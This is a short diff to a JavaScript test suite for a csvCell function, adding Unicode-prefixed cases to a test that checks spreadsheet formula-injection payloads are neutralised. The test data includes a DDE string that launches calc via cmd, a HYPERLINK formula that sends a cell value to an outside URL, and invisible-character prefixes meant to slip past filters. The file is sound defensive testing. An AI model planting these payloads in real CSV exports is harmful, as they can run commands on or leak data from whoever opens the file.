@@ -30,6 +30,8 @@ describe('csvCell', () => {
     '＠SUM(A1)',
     '-2+3+cmd|’ /C calc’!A0',
     '%0A=1',
+    '\u{200B}\u{202E}=1+1',
+    '\u{FEFF}=1+1',
     '=HYPERLINK("http://example.org?"&A1,"x")',
   ])('takes the formula out of %j', (value) => expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/));
 });
